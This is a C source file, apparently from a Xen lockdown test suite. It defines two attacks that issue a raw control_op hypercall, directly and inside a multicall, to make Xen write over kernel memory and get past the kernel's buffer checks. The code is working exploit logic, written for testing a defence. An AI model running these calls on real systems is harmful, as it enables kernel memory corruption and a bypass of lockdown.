// SPDX-License-Identifier: GPL-2.0-only
/*
 * The way that lockdown leaves open, misused: control_op issued raw, past the
 * kernel's check that its buffers are the caller's own.
 */
#include "envelope.h"

/* A status call whose answer goes to this address. */
static struct control_op_call *status_call(uint64_t address)
{
    struct control_op_call *call = new_call(CONTROL_OP_STATUS);

    declare_at(call, address, sizeof(struct control_op_status));
    call->args[0] = CONTROL_OP_REFERENCE(1, 0);
    return call;
}

/* Have a call sent by a raw hypercall; returns what Xen says of it. */
typedef long send_raw(struct control_op_call *call);

/*
 * Xen trusts the kernel to have looked at the buffers. A status call is sent
 * twice, once with the victim as its buffer, once with memory of our own: that
 * even this one gets through would mean that the kernel does not filter.
 */
static enum outcome send_past_kernel(send_raw *send)
{
    struct control_op_status *status = buffer(PAGE_SIZE);
    long result;

    watch_version();
    result = send(status_call(victim()));

    if ( version_differs() )
        return effect(true, "the kernel's version overwritten");
    if ( result == -ENOSYS )
        return not_applicable("this Xen has no control_op");

    send(status_call((uintptr_t)status));
    return effect(status->version, "%s (%s)",
                  status->version ? "a raw call reached Xen"
                                  : "no buffer was written to",
                  result < 0 ? strerrorname_np((int)-result) : "no error");
}

static long plain(struct control_op_call *call)
{
    return hypercall3(CONTROL_OP_HYPERCALL, call, 1, call_size(call));
}

/* U-CONTROL-RAW: have control_op write its answer over the kernel. */
ATTACK_BY("U-CONTROL-RAW",
          "issue control_op raw, with kernel memory as its buffer",
          send_past_kernel(plain))

static long in_multicall(struct control_op_call *call)
{
    multicall_entry_t *entry = buffer(PAGE_SIZE);
    long result;

    *entry = (multicall_entry_t){ .op = CONTROL_OP_HYPERCALL,
                                  .args = { (uintptr_t)call, 1,
                                            call_size(call) } };
    result = hypercall2(__HYPERVISOR_multicall, entry, 1);

    return result ? result : (long)entry->result;
}

/*
 * U-CONTROL-RAW-MULTICALL: the same, in a list of calls.
 *
 * There control_op has no business at all: each of the two puts off what is
 * left of an interrupted call in a way of its own.
 */
ATTACK_BY(
    "U-CONTROL-RAW-MULTICALL",
    "issue control_op within a multicall, with kernel memory as its buffer",
    send_past_kernel(in_multicall))
